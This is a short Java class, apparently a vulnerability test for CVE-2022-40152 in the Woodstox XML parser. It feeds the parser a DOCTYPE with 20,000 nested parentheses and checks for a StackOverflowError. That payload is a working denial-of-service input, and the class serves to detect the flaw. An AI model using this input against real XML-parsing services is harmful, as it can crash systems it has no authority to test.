public class D_woodstox_core_2022_40152 {
    public static String run() throws Throwable {
        Object r = H.timed(20000, 1 << 19, () -> {
            var s = new com.ctc.wstx.stax.WstxInputFactory()
                    .createXMLStreamReader(new java.io.StringReader("<!DOCTYPE x [<!ELEMENT x "
                            + "(".repeat(20000) + "a" + ")".repeat(20000) + ">]><x/>"));
            while (s.hasNext()) s.next();
            return "ok";
        });
        return H.v(r instanceof StackOverflowError, H.cause(r));
    }
}
